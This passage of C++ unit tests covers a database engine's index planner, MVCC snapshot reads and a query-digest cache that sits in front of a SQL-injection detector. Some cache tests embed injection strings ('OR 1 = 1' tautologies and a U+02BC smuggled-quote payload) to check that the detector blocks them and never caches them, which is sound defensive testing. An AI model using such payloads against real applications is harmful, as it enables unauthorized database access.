           "WHERE s BETWEEN 'apple' AND 'CHERRY' ORDER BY id",
       }) {
    expect_parity(tail);
  }
}

TEST_F(PlannerParityTest, NullsNeverMatchRangesButOrderFirst) {
  // NULL k (id 10) must not appear in any range result...
  expect_parity("WHERE k >= -100 ORDER BY id");
  expect_parity("WHERE k <= 100 ORDER BY id");
  // ...but the pushed-down ORDER BY walk must still emit it, first for
  // ASC and last for DESC, exactly like the sort.
  expect_parity("ORDER BY k LIMIT 3");
  expect_parity("ORDER BY k");
  expect_parity("ORDER BY k DESC LIMIT 3");
  expect_parity("ORDER BY k DESC");
}

TEST_F(PlannerParityTest, LimitOffsetUnderPushdown) {
  expect_parity("ORDER BY k LIMIT 2 OFFSET 3");
  expect_parity("WHERE k > 2 ORDER BY k LIMIT 2 OFFSET 1");
  expect_parity("WHERE k > 2 ORDER BY k DESC LIMIT 3");
  // Limit without ORDER BY picks arbitrary rows; only the count is
  // contract.
  EXPECT_EQ(db.execute_admin("SELECT id FROM with_ix WHERE k > 0 LIMIT 3")
                .rows.size(),
            db.execute_admin("SELECT id FROM no_ix WHERE k > 0 LIMIT 3")
                .rows.size());
}

// ---- MVCC: snapshot-correct index reads (the PR 9 wart, fixed) ----------

class PlannerMvccTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE acct (id INT PRIMARY KEY, owner TEXT, bal INT)");
    for (int i = 1; i <= 8; ++i) {
      db.execute_admin("INSERT INTO acct VALUES (" + std::to_string(i) +
                       ", 'o" + std::to_string(i) + "', " +
                       std::to_string(i * 100) + ")");
    }
    db.execute_admin("CREATE INDEX idx_bal ON acct (bal)");
  }
  Database db;
  Session reader;
};

TEST_F(PlannerMvccTest, IndexEqReadInsideTxnIgnoresConcurrentUpdate) {
  db.execute(reader, "BEGIN");
  // Pin the snapshot with any read.
  db.execute(reader, "SELECT COUNT(*) FROM acct");
  // A concurrent autocommit update moves bal 300 -> 999 (old version
  // chained). The reader's snapshot predates it.
  db.execute_admin("UPDATE acct SET bal = 999 WHERE id = 3");
  auto rs = db.execute(reader, "SELECT id FROM acct WHERE bal = 300");
  ASSERT_EQ(rs.rows.size(), 1u) << "index read lost the chained old version";
  EXPECT_EQ(rs.rows[0][0].as_int(), 3);
  EXPECT_TRUE(
      db.execute(reader, "SELECT id FROM acct WHERE bal = 999").rows.empty());
  db.execute(reader, "COMMIT");
  // After the snapshot is released, the new image is what the index sees.
  EXPECT_EQ(
      db.execute_admin("SELECT id FROM acct WHERE bal = 999").rows.size(),
      1u);
}

TEST_F(PlannerMvccTest, IndexReadIgnoresUncommittedConcurrentUpdate) {
  // The satellite regression: a second session holds an UNCOMMITTED
  // UPDATE while the reader goes through the index. Buffered writes
  // live in the writer's overlay, never in the index, so the reader
  // must see the pre-update image whether it reads before or after the
  // writer's statement — and the new image only after COMMIT.
  Session writer("writer");
  db.execute(reader, "BEGIN");
  db.execute(reader, "SELECT COUNT(*) FROM acct");
  db.execute(writer, "BEGIN");
  db.execute(writer, "UPDATE acct SET bal = 999 WHERE id = 3");
  auto rs = db.execute(reader, "SELECT id FROM acct WHERE bal = 300");
  ASSERT_EQ(rs.rows.size(), 1u)
      << "uncommitted concurrent UPDATE leaked into an index read";
  EXPECT_EQ(rs.rows[0][0].as_int(), 3);
  EXPECT_TRUE(
      db.execute(reader, "SELECT id FROM acct WHERE bal = 999").rows.empty());
  db.execute(reader, "COMMIT");
  // Still invisible after the reader's txn ends: the writer hasn't
  // committed.
  EXPECT_TRUE(
      db.execute_admin("SELECT id FROM acct WHERE bal = 999").rows.empty());
  db.execute(writer, "COMMIT");
  EXPECT_EQ(
      db.execute_admin("SELECT id FROM acct WHERE bal = 999").rows.size(),
      1u);
}

TEST_F(PlannerMvccTest, IndexRangeReadInsideTxnIgnoresConcurrentUpdate) {
  db.execute(reader, "BEGIN");
  db.execute(reader, "SELECT COUNT(*) FROM acct");
  db.execute_admin("UPDATE acct SET bal = 5000 WHERE bal >= 600");
  auto rs = db.execute(reader,
                       "SELECT id FROM acct WHERE bal >= 600 ORDER BY bal");
  ASSERT_EQ(rs.rows.size(), 3u);  // 600, 700, 800 as of the snapshot
  EXPECT_EQ(rs.rows[0][0].as_int(), 6);
  EXPECT_EQ(rs.rows[2][0].as_int(), 8);
  db.execute(reader, "ROLLBACK");
}

TEST_F(PlannerMvccTest, IndexReadInsideTxnStillSeesConcurrentlyDeletedRows) {
  db.execute(reader, "BEGIN");
  db.execute(reader, "SELECT COUNT(*) FROM acct");
  db.execute_admin("DELETE FROM acct WHERE bal = 400");
  auto rs = db.execute(reader, "SELECT id FROM acct WHERE bal = 400");
  ASSERT_EQ(rs.rows.size(), 1u) << "deleted row must stay visible to the "
                                   "older snapshot through the index";
  EXPECT_EQ(rs.rows[0][0].as_int(), 4);
  db.execute(reader, "COMMIT");
  EXPECT_TRUE(
      db.execute_admin("SELECT id FROM acct WHERE bal = 400").rows.empty());
}

TEST_F(PlannerMvccTest, IndexCreatedAfterSnapshotStillAnswersCorrectly) {
  db.execute_admin("DROP INDEX idx_bal ON acct");
  db.execute(reader, "BEGIN");
  db.execute(reader, "SELECT COUNT(*) FROM acct");
  // History accumulates *before* the index exists; the build must index
  // the chained old versions too.
  db.execute_admin("UPDATE acct SET bal = 7777 WHERE id = 2");
  db.execute_admin("CREATE INDEX idx_bal2 ON acct (bal)");
  auto rs = db.execute(reader, "SELECT id FROM acct WHERE bal = 200");
  ASSERT_EQ(rs.rows.size(), 1u)
      << "CREATE INDEX must cover pre-existing old versions";
  EXPECT_EQ(rs.rows[0][0].as_int(), 2);
  db.execute(reader, "COMMIT");
}

// ---- index maintenance across transactional DML and DDL -----------------

class PlannerTxnMaintenanceTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin("CREATE TABLE m (id INT PRIMARY KEY, v INT)");
    for (int i = 1; i <= 6; ++i) {
      db.execute_admin("INSERT INTO m VALUES (" + std::to_string(i) + ", " +
                       std::to_string(i) + ")");
    }
    db.execute_admin("CREATE INDEX idx_v ON m (v)");
  }
  int64_t count_v(int v) {
    return db
        .execute_admin("SELECT COUNT(*) FROM m WHERE v = " +
                       std::to_string(v))
        .rows[0][0]
        .as_int();
  }
  Database db;
  Session s;
};

TEST_F(PlannerTxnMaintenanceTest, CommittedTxnDmlVisibleThroughIndex) {
  db.execute(s, "BEGIN");
  db.execute(s, "INSERT INTO m VALUES (10, 100)");
  db.execute(s, "UPDATE m SET v = 200 WHERE id = 2");
  db.execute(s, "DELETE FROM m WHERE id = 3");
  db.execute(s, "COMMIT");
  EXPECT_EQ(count_v(100), 1);
  EXPECT_EQ(count_v(200), 1);
  EXPECT_EQ(count_v(2), 0);
  EXPECT_EQ(count_v(3), 0);
}

TEST_F(PlannerTxnMaintenanceTest, RolledBackTxnDmlInvisibleThroughIndex) {
  db.execute(s, "BEGIN");
  db.execute(s, "INSERT INTO m VALUES (10, 100)");
  db.execute(s, "UPDATE m SET v = 200 WHERE id = 2");
  db.execute(s, "DELETE FROM m WHERE id = 3");
  db.execute(s, "ROLLBACK");
  EXPECT_EQ(count_v(100), 0);
  EXPECT_EQ(count_v(200), 0);
  EXPECT_EQ(count_v(2), 1);
  EXPECT_EQ(count_v(3), 1);
}

TEST_F(PlannerTxnMaintenanceTest, OwnBufferedWritesVisibleInsideTxn) {
  // The txn's overlay forces the executor off the index path; results
  // must still include the buffered (uncommitted) rows.
  db.execute(s, "BEGIN");
  db.execute(s, "INSERT INTO m VALUES (10, 3)");
  auto rs = db.execute(s, "SELECT COUNT(*) FROM m WHERE v = 3");
  EXPECT_EQ(rs.rows[0][0].as_int(), 2);
  db.execute(s, "ROLLBACK");
  EXPECT_EQ(count_v(3), 1);
}

TEST_F(PlannerTxnMaintenanceTest, CreateIndexInTxnRollsBack) {
  db.execute(s, "BEGIN");
  db.execute(s, "CREATE INDEX idx_txn ON m (id)");
  db.execute(s, "ROLLBACK");
  EXPECT_FALSE(db.catalog().require("m").has_index_on("id"));
  // The surviving index still answers.
  EXPECT_EQ(count_v(4), 1);
}

TEST_F(PlannerTxnMaintenanceTest, DropIndexFallsBackToScanSeamlessly) {
  db.execute_admin("DROP INDEX idx_v ON m");
  auto rs = db.execute_admin("EXPLAIN SELECT id FROM m WHERE v = 4");
  EXPECT_EQ(rs.rows[0][kPath].as_string(), "scan");
  EXPECT_EQ(count_v(4), 1);
}

// ---- storage-level bookkeeping: undo paths and vacuum -------------------

storage::TableSchema two_col_schema() {
  return storage::TableSchema(
      "u", {{"id", storage::ColumnType::kInt, false, true, false,
             std::nullopt},
            {"v", storage::ColumnType::kInt, true, false, false,
             std::nullopt}});
}

TEST(PlannerStorage, UndoUpdateRestoresIndexEntries) {
  storage::Table t(two_col_schema());
  t.create_index("iv", "v");
  size_t slot = t.insert_versioned({Value(int64_t{1}), Value(int64_t{10})},
                                   5).slot;
  t.update_versioned(slot, {{1, Value(int64_t{20})}}, 8);
  t.undo_update(slot);
  auto hits = t.index_eq_snapshot("v", Value(int64_t{10}), 100);
  ASSERT_TRUE(hits.has_value());
  ASSERT_EQ(hits->size(), 1u);
  // The undone key must be gone (no version carries 20 any more).
  size_t n20 = 0;
  t.index_range_snapshot("v", Value(int64_t{20}), true, Value(int64_t{20}),
                         true, false, false, 100,
                         [&](size_t, const storage::Row&) {
                           ++n20;
                           return true;
                         });
  EXPECT_EQ(n20, 0u);
  auto info = t.secondary_index_on("v");
  ASSERT_TRUE(info.has_value());
  EXPECT_EQ(info->entries, 1u);
  EXPECT_EQ(info->distinct_keys, 1u);
}

TEST(PlannerStorage, UndoInsertRemovesIndexEntries) {
  storage::Table t(two_col_schema());
  t.create_index("iv", "v");
  size_t slot = t.insert_versioned({Value(int64_t{1}), Value(int64_t{10})},
                                   5).slot;
  t.undo_insert(slot);
  auto hits = t.index_eq_snapshot("v", Value(int64_t{10}), 100);
  ASSERT_TRUE(hits.has_value());
  EXPECT_TRUE(hits->empty());
  EXPECT_EQ(t.secondary_index_on("v")->entries, 0u);
}

TEST(PlannerStorage, VacuumPrunesDeadIndexKeysButKeepsLiveOnes) {
  storage::Table t(two_col_schema());
  t.create_index("iv", "v");
  size_t slot = t.insert_versioned({Value(int64_t{1}), Value(int64_t{10})},
                                   5).slot;
  t.update_versioned(slot, {{1, Value(int64_t{20})}}, 8);   // 10 chained
  t.update_versioned(slot, {{1, Value(int64_t{20})}}, 12);  // same key
  auto info = t.secondary_index_on("v");
  EXPECT_EQ(info->entries, 2u);  // 10 (chained) + 20 (live, deduped)
  EXPECT_EQ(info->distinct_keys, 2u);
  // Before the horizon passes, snapshot 6 still reads 10 via the index.
  auto hits = t.index_eq_snapshot("v", Value(int64_t{10}), 6);
  ASSERT_TRUE(hits.has_value());
  EXPECT_EQ(hits->size(), 1u);
  EXPECT_GE(t.vacuum(50), 1u);
  info = t.secondary_index_on("v");
  EXPECT_EQ(info->entries, 1u) << "dead key 10 must be pruned";
  EXPECT_EQ(info->distinct_keys, 1u);
  hits = t.index_eq_snapshot("v", Value(int64_t{20}), 100);
  ASSERT_TRUE(hits.has_value());
  EXPECT_EQ(hits->size(), 1u);
}

TEST(PlannerStorage, ErasedRowKeysSurviveUntilVacuum) {
  storage::Table t(two_col_schema());
  t.create_index("iv", "v");
  size_t slot = t.insert_versioned({Value(int64_t{1}), Value(int64_t{10})},
                                   5).slot;
  t.erase_versioned(slot, 9);
  // Snapshot 7 predates the delete: the index must still serve the row.
  auto hits = t.index_eq_snapshot("v", Value(int64_t{10}), 7);
  ASSERT_TRUE(hits.has_value());
  ASSERT_EQ(hits->size(), 1u);
  // Snapshot 100 postdates it: same index, no hit.
  hits = t.index_eq_snapshot("v", Value(int64_t{10}), 100);
  ASSERT_TRUE(hits.has_value());
  EXPECT_TRUE(hits->empty());
  EXPECT_GE(t.vacuum(50), 1u);
  EXPECT_EQ(t.secondary_index_on("v")->entries, 0u);
}

// ---- planner unit: pure plan function over the storage stats ------------

TEST(PlannerUnit, SmallTablePrefersScanOnTies) {
  storage::Table t(two_col_schema());
  t.create_index("iv", "v");
  for (int i = 0; i < 4; ++i) {
    t.insert({Value(int64_t{i}), Value(int64_t{7})});  // one distinct key
  }
  sql::ParsedQuery pr = sql::parse("SELECT id FROM u WHERE v = 7");
  const auto& sel =
      *std::get<std::unique_ptr<sql::SelectStmt>>(pr.statement);
  AccessPlan plan = plan_select_access(t, sel);
  EXPECT_EQ(plan.kind, AccessPlan::Kind::kFullScan)
      << "entries/distinct == N: the index probe saves nothing";
}

TEST(PlannerUnit, StopAfterAccountsForOffset) {
  storage::Table t(two_col_schema());
  t.create_index("iv", "v");
  for (int i = 0; i < 32; ++i) {
    t.insert({Value(int64_t{i}), Value(int64_t{i})});
  }
  sql::ParsedQuery pr =
      sql::parse("SELECT id FROM u ORDER BY v LIMIT 5 OFFSET 3");
  const auto& sel =
      *std::get<std::unique_ptr<sql::SelectStmt>>(pr.statement);
  AccessPlan plan = plan_select_access(t, sel);
  EXPECT_EQ(plan.kind, AccessPlan::Kind::kIndexOrder);
  EXPECT_TRUE(plan.limit_pushdown);
  EXPECT_EQ(plan.stop_after, 8u);
}

// ---- prepared statements and the digest cache across CREATE INDEX -------

TEST(PlannerPrepared, CreateIndexRevalidatesWithoutReverdicting) {
  Database db;
  Session s;
  db.execute_admin("CREATE TABLE p (id INT PRIMARY KEY, v INT)");
  for (int i = 1; i <= 8; ++i) {
    db.execute_admin("INSERT INTO p VALUES (" + std::to_string(i) + ", " +
                     std::to_string(i) + ")");
  }
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kTraining);
  db.execute(s, "SELECT id FROM p WHERE v = 3");
  // Teach the DDL shapes too: otherwise the prevention-mode CREATE INDEX
  // below is an unknown query and incremental learning mutates the model
  // store — a legitimate but different reason to re-verdict than the one
  // under test.
  db.execute(s, "CREATE INDEX idx_v ON p (v)");
  db.execute(s, "DROP INDEX idx_v ON p");
  septic->set_mode(core::Mode::kPrevention);

  auto stmt = db.prepare(s, "SELECT id FROM p WHERE v = ?");
  db.execute_prepared(s, *stmt, {Value(int64_t{3})});
  db.execute_prepared(s, *stmt, {Value(int64_t{3})});
  const uint64_t reverdicts0 = db.prepared_reverdicts();
  const uint64_t ddl0 = db.ddl_version();
  DigestCacheStats warm = db.digest_cache_stats();

  db.execute_admin("CREATE INDEX idx_v ON p (v)");
  EXPECT_EQ(db.ddl_version(), ddl0 + 1)
      << "CREATE INDEX is a schema change and must bump the DDL epoch";

  // The next EXEC re-validates the template against the new catalog but
  // keeps the PREPARE-time SEPTIC verdict: an index changes the access
  // path, not the query's structure, so "EXEC performs no per-call
  // verdict" survives index DDL — while the result now flows through the
  // new index.
  auto rs = db.execute_prepared(s, *stmt, {Value(int64_t{3})});
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][0].as_int(), 3);
  EXPECT_EQ(db.prepared_reverdicts(), reverdicts0);

  // Text-protocol repeats must NOT replay a pre-index cached entry: the
  // DDL epoch bump invalidates it and the full path re-validates.
  db.execute(s, "SELECT id FROM p WHERE v = 3");
  db.execute(s, "SELECT id FROM p WHERE v = 3");  // warm a cached entry
  warm = db.digest_cache_stats();
  db.execute_admin("DROP INDEX idx_v ON p");
  db.execute(s, "SELECT id FROM p WHERE v = 3");
  DigestCacheStats after = db.digest_cache_stats();
  EXPECT_GE(after.invalidations, warm.invalidations + 1);
  db.set_interceptor(nullptr);
}

}  // namespace
}  // namespace septic::engine

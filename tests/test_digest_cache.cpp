// Safety tests for the query-digest cache (engine/digest_cache.h): a warm
// cache must be *observationally invisible* — every verdict, log line, and
// stat a replayed query produces must match what the full pipeline would
// have produced. The suite covers byte-exact keying, attack non-caching,
// all three generation-invalidation axes (config epoch, model generation,
// DDL version) plus the interceptor-install epoch, eviction, the budget-0
// kill switch, and an 8-thread stress mix with exact stat reconciliation.
#include <gtest/gtest.h>

#include <atomic>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "attacks/corpus.h"
#include "engine/database.h"
#include "engine/digest_cache.h"
#include "engine/error.h"
#include "septic/septic.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

namespace septic::engine {
namespace {

class DigestCacheTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, a TEXT, b INT)");
    db.execute_admin("INSERT INTO t (a, b) VALUES ('x', 1), ('y', 2)");
  }

  void install_septic() {
    septic = std::make_shared<core::Septic>();
    db.set_interceptor(septic);
  }

  void train(std::string_view q) {
    septic->set_mode(core::Mode::kTraining);
    db.execute(session, q);
  }

  Database db;
  Session session;
  std::shared_ptr<core::Septic> septic;
};

// ------------------------------------------------------------ basic hits

TEST_F(DigestCacheTest, WarmHitReplaysBenignVerdict) {
  install_septic();
  train("SELECT a FROM t WHERE b = 1");
  septic->set_mode(core::Mode::kPrevention);

  uint64_t seen0 = septic->stats().queries_seen;
  auto r1 = db.execute(session, "SELECT a FROM t WHERE b = 1");
  DigestCacheStats mid = db.digest_cache_stats();
  auto r2 = db.execute(session, "SELECT a FROM t WHERE b = 1");
  DigestCacheStats after = db.digest_cache_stats();

  EXPECT_EQ(r1.rows, r2.rows);
  EXPECT_GE(after.hits, mid.hits + 1) << "second run should replay";
  // The replay still counts: exactly one queries_seen tick per statement.
  EXPECT_EQ(septic->stats().queries_seen, seen0 + 2);
  // Replayed queries log under the same identity as the full pipeline.
  EXPECT_EQ(septic->event_log().count_of(core::EventKind::kQueryProcessed),
            2u);
}

TEST_F(DigestCacheTest, ParseOnlyReplayWithoutInterceptor) {
  // No interceptor: the cache memoizes just the parse.
  auto r1 = db.execute(session, "SELECT a FROM t WHERE b = 2");
  auto r2 = db.execute(session, "SELECT a FROM t WHERE b = 2");
  EXPECT_EQ(r1.rows, r2.rows);
  EXPECT_GE(db.digest_cache_stats().hits, 1u);
}

TEST_F(DigestCacheTest, ResultsAreNotCached) {
  // Only the pipeline (parse + verdict) is memoized — execution always
  // runs against live data.
  db.execute(session, "SELECT a FROM t WHERE b = 99");  // warm (0 rows)
  auto cold = db.execute(session, "SELECT a FROM t WHERE b = 99");
  EXPECT_EQ(cold.rows.size(), 0u);
  db.execute(session, "INSERT INTO t (a, b) VALUES ('z', 99)");
  auto warm = db.execute(session, "SELECT a FROM t WHERE b = 99");
  EXPECT_EQ(warm.rows.size(), 1u) << "replay must see the new row";
}

// ------------------------------------------------- byte-exact keying

TEST_F(DigestCacheTest, CommentVariantIsADistinctEntry) {
  install_septic();
  train("SELECT a FROM t WHERE b = 1");
  septic->set_mode(core::Mode::kPrevention);

  db.execute(session, "SELECT a FROM t WHERE b = 1");
  DigestCacheStats s0 = db.digest_cache_stats();
  // Same statement + trailing comment: different bytes, different entry —
  // never a hit on the bare form's entry.
  db.execute(session, "SELECT a FROM t WHERE b = 1 -- audit");
  DigestCacheStats s1 = db.digest_cache_stats();
  EXPECT_EQ(s1.hits, s0.hits);
  EXPECT_GE(s1.misses, s0.misses + 1);
  EXPECT_GE(s1.insertions, s0.insertions + 1);
}

TEST_F(DigestCacheTest, KeyIsPostConversionBytes) {
  // U+02BC converts to an ASCII quote before the cache key is formed, so
  // the raw and pre-converted spellings are the *same* statement — same
  // bytes, same parse, same verdict — and legitimately share one entry.
  std::string ascii = "SELECT a FROM t WHERE a = 'x'";
  std::string confusable = std::string("SELECT a FROM t WHERE a = ") +
                           attacks::kModifierApostrophe + "x" +
                           attacks::kModifierApostrophe;
  db.execute(session, ascii);
  DigestCacheStats s0 = db.digest_cache_stats();
  db.execute(session, confusable);
  DigestCacheStats s1 = db.digest_cache_stats();
  EXPECT_GE(s1.hits, s0.hits + 1) << "post-conversion bytes match";
  EXPECT_EQ(s1.entries, s0.entries) << "one entry, not two";
}

TEST_F(DigestCacheTest, ConfusableAttackMissesWarmBenignEntry) {
  install_septic();
  train("SELECT a FROM t WHERE a = 'v'");
  septic->set_mode(core::Mode::kPrevention);
  // Warm the benign shape.
  db.execute(session, "SELECT a FROM t WHERE a = 'v'");
  db.execute(session, "SELECT a FROM t WHERE a = 'v'");
  EXPECT_GE(db.digest_cache_stats().hits, 1u);

  // The U+02BC smuggled-quote attack differs in post-conversion bytes from
  // every cached benign entry, so it can never ride a warm entry past the
  // detector: full pipeline, detected, dropped.
  std::string attack = std::string("SELECT a FROM t WHERE a = 'v") +
                       attacks::kModifierApostrophe + " OR 1 = 1 -- '";
  uint64_t dropped0 = septic->stats().dropped;
  EXPECT_THROW(db.execute(session, attack), DbError);
  EXPECT_THROW(db.execute(session, attack), DbError);
  EXPECT_EQ(septic->stats().dropped, dropped0 + 2)
      << "every attempt runs the detector; attack verdicts are never cached";
}

// ----------------------------------------------------- attacks uncached

TEST_F(DigestCacheTest, AttacksAreNeverCached) {
  install_septic();
  train("SELECT a FROM t WHERE b = 1");
  septic->set_mode(core::Mode::kPrevention);

  DigestCacheStats s0 = db.digest_cache_stats();
  for (int i = 0; i < 3; ++i) {
    EXPECT_THROW(db.execute(session, "SELECT a FROM t WHERE b = 1 OR 1 = 1"),
                 DbError);
  }
  DigestCacheStats s1 = db.digest_cache_stats();
  EXPECT_EQ(s1.insertions, s0.insertions) << "attacks must not be inserted";
  EXPECT_EQ(s1.hits, s0.hits);
  // Per-event logging is preserved: three attempts, three detections.
  EXPECT_EQ(septic->stats().sqli_detected, 3u);
  EXPECT_EQ(septic->event_log().count_of(core::EventKind::kSqliDetected), 3u);
}

TEST_F(DigestCacheTest, DetectionModeAttackLogsEveryAttempt) {
  install_septic();
  train("SELECT a FROM t WHERE b = 1");
  septic->set_mode(core::Mode::kDetection);
  // Detection mode executes the attack, but the verdict is still an
  // attack verdict — uncacheable, re-detected and re-logged every time.
  db.execute(session, "SELECT a FROM t WHERE b = 1 OR 1 = 1");
  db.execute(session, "SELECT a FROM t WHERE b = 1 OR 1 = 1");
  EXPECT_EQ(septic->stats().sqli_detected, 2u);
}

// ------------------------------------------- generation invalidation

TEST_F(DigestCacheTest, ConfigChangeInvalidatesCachedVerdicts) {
  install_septic();
  train("SELECT a FROM t WHERE b = 1");
  septic->set_mode(core::Mode::kPrevention);
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  DigestCacheStats warm = db.digest_cache_stats();
  EXPECT_GE(warm.hits, 1u);

  septic->set_stored_detection(false);  // bumps Config::epoch
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  DigestCacheStats after = db.digest_cache_stats();
  EXPECT_GE(after.invalidations, warm.invalidations + 1)
      << "stale epoch tag must evict, not replay";
}

TEST_F(DigestCacheTest, ModelRemovalFlipsCachedBenignToBlocked) {
  // The headline staleness hazard: a verdict cached while the model
  // existed must not outlive the model.
  install_septic();
  septic->set_incremental_learning(false);
  train("SELECT a FROM t WHERE b = 1");
  septic->set_mode(core::Mode::kPrevention);
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  EXPECT_GE(db.digest_cache_stats().hits, 1u);

  septic->store().clear();  // admin wipes the model set (generation bump)
  // With the model gone and incremental learning off, prevention treats
  // the unknown ID as an attack — a stale replay would have allowed it.
  EXPECT_THROW(db.execute(session, "SELECT a FROM t WHERE b = 1"), DbError);
}

TEST_F(DigestCacheTest, ModelAddRefreshesGeneration) {
  install_septic();
  septic->set_mode(core::Mode::kTraining);
  // First occurrence: learned (generation bump) and cached with the
  // pre-bump tag; second: self-invalidates and re-caches current; third:
  // replays.
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  DigestCacheStats s0 = db.digest_cache_stats();
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  DigestCacheStats s1 = db.digest_cache_stats();
  EXPECT_GE(s1.hits, s0.hits + 1);
  EXPECT_EQ(septic->store().model_count(), 1u);
}

TEST_F(DigestCacheTest, DdlInvalidatesCachedEntries) {
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  db.execute(session, "SELECT a FROM t WHERE b = 1");  // warm hit
  DigestCacheStats warm = db.digest_cache_stats();
  uint64_t ddl0 = db.ddl_version();

  db.execute_admin("CREATE TABLE u (id INT PRIMARY KEY)");
  EXPECT_EQ(db.ddl_version(), ddl0 + 1);

  db.execute(session, "SELECT a FROM t WHERE b = 1");
  DigestCacheStats after = db.digest_cache_stats();
  EXPECT_GE(after.invalidations, warm.invalidations + 1)
      << "schema change must force re-validation through the full path";
  // Dropping the table the cached entry reads makes a stale replay
  // actively wrong: the full path re-validates and errors cleanly.
  db.execute(session, "SELECT a FROM t WHERE b = 1");  // re-warm
  db.execute_admin("DROP TABLE t");
  EXPECT_THROW(db.execute(session, "SELECT a FROM t WHERE b = 1"), DbError);
}

TEST_F(DigestCacheTest, RollbackBumpsDdlVersionOnlyForDdl) {
  // DML-only rollback: buffered writes die with the write set and the
  // schema never changed — no bump, cached entries stay replayable.
  uint64_t ddl0 = db.ddl_version();
  db.execute(session, "BEGIN");
  db.execute(session, "INSERT INTO t (a, b) VALUES ('txn', 7)");
  db.execute(session, "ROLLBACK");
  EXPECT_EQ(db.ddl_version(), ddl0);
  // DDL-containing rollback: the undo replay restores the pre-txn catalog
  // and bumps exactly once more — entries validated against the mid-txn
  // catalog must not survive it.
  db.execute(session, "BEGIN");
  db.execute(session, "CREATE TABLE roll_u (id INT PRIMARY KEY)");
  uint64_t mid = db.ddl_version();
  EXPECT_EQ(mid, ddl0 + 1);
  db.execute(session, "ROLLBACK");
  EXPECT_EQ(db.ddl_version(), mid + 1);
}

TEST_F(DigestCacheTest, InterceptorInstallInvalidatesParseOnlyEntries) {
  // Warm a parse-only entry with no interceptor installed...
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  EXPECT_GE(db.digest_cache_stats().hits, 1u);

  // ...then install SEPTIC. The pre-install entry must not replay — the
  // interceptor has never seen this query.
  install_septic();
  septic->set_mode(core::Mode::kTraining);
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  EXPECT_EQ(septic->stats().queries_seen, 1u);
  EXPECT_EQ(septic->store().model_count(), 1u)
      << "the query must reach on_query, not replay a verdict-free entry";
}

// ------------------------------------------------ eviction and budget

TEST_F(DigestCacheTest, EvictsUnderByteBudget) {
  db.set_digest_cache_budget(16 << 10);  // 16 KiB: a handful of entries
  for (int i = 0; i < 400; ++i) {
    db.execute(session,
               "SELECT a FROM t WHERE b = " + std::to_string(i + 1000));
  }
  DigestCacheStats s = db.digest_cache_stats();
  EXPECT_GT(s.evictions, 0u);
  EXPECT_LT(s.entries, 400u);
  EXPECT_LE(s.bytes_in_use, size_t{16 << 10});
}

TEST_F(DigestCacheTest, BudgetZeroDisablesCache) {
  db.set_digest_cache_budget(0);
  DigestCacheStats s0 = db.digest_cache_stats();
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  DigestCacheStats s = db.digest_cache_stats();
  EXPECT_EQ(s.hits, s0.hits);
  EXPECT_EQ(s.misses, s0.misses) << "disabled cache does not count lookups";
  EXPECT_EQ(s.entries, 0u);
}

TEST_F(DigestCacheTest, PreparedStatementsBypassTheCache) {
  DigestCacheStats s0 = db.digest_cache_stats();
  std::vector<sql::Value> params{sql::Value(int64_t{1})};
  db.execute_prepared(session, "SELECT a FROM t WHERE b = ?", params);
  db.execute_prepared(session, "SELECT a FROM t WHERE b = ?", params);
  DigestCacheStats s1 = db.digest_cache_stats();
  EXPECT_EQ(s1.insertions, s0.insertions);
  EXPECT_EQ(s1.hits, s0.hits);
}

TEST_F(DigestCacheTest, ReplayRoutesThroughTransactionContext) {
  db.execute(session, "SELECT a FROM t WHERE b = 1");
  db.execute(session, "SELECT a FROM t WHERE b = 1");  // warm
  Session other("other");
  db.execute(other, "BEGIN");
  db.execute(other, "UPDATE t SET a = 'txn' WHERE b = 1");
  // Only parse + verdict are memoized, never data: a replayed hit in
  // another session proceeds (MVCC — no global transaction lock) and
  // reads its own snapshot, not the open transaction's buffered write...
  ResultSet rs = db.execute(session, "SELECT a FROM t WHERE b = 1");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][0].as_string(), "x");
  // ...while the owner's replayed hit reads through its own write set.
  ResultSet own = db.execute(other, "SELECT a FROM t WHERE b = 1");
  ASSERT_EQ(own.rows.size(), 1u);
  EXPECT_EQ(own.rows[0][0].as_string(), "txn");
  db.execute(other, "ROLLBACK");
}

// ------------------------------------------- corpus vs warm cache

// Every corpus attack is blocked on a warm cache, twice in a row, and the
// benign workload that warmed the cache still passes afterwards.
TEST(DigestCacheCorpus, AttacksBlockedAndBenignAcceptedWarm) {
  for (const attacks::AttackCase& attack : attacks::all_attacks()) {
    Database db;
    std::unique_ptr<web::App> app;
    if (attack.app == "tickets") {
      app = std::make_unique<web::apps::TicketsApp>();
    } else {
      app = std::make_unique<web::apps::WaspMonApp>();
    }
    app->install(db);
    web::WebStack stack(*app, db);
    auto septic = std::make_shared<core::Septic>();
    db.set_interceptor(septic);
    septic->set_mode(core::Mode::kTraining);
    web::train_on_application(stack);
    septic->set_mode(core::Mode::kPrevention);
    // Warm: replay the benign training workload against the live cache.
    web::train_on_application(stack);
    EXPECT_GT(db.digest_cache_stats().hits, 0u) << attack.id;

    auto run_chain = [&]() -> std::string {
      for (const auto& setup : attack.setup) {
        web::Response r = stack.handle(setup);
        if (r.blocked()) return r.blocked_by;
      }
      return stack.handle(attack.attack).blocked_by;
    };
